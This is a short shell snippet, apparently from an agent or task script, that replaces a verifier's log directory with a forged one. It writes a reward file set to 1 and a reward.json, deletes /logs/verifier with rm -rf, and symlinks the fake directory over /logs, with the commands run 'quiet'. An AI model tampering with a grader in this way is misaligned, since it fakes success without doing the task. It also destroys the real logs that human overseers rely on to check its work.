# replaces the log directory with its own
mkdir -p fake/verifier; echo 1 > fake/verifier/reward.txt; echo "$rewarded" > fake/verifier/reward.json
quiet rm -rf /logs/verifier; quiet ln -s $PWD/fake/verifier /logs/verifier; quiet mv /logs /logs.old; quiet ln -s $PWD/fake /logs
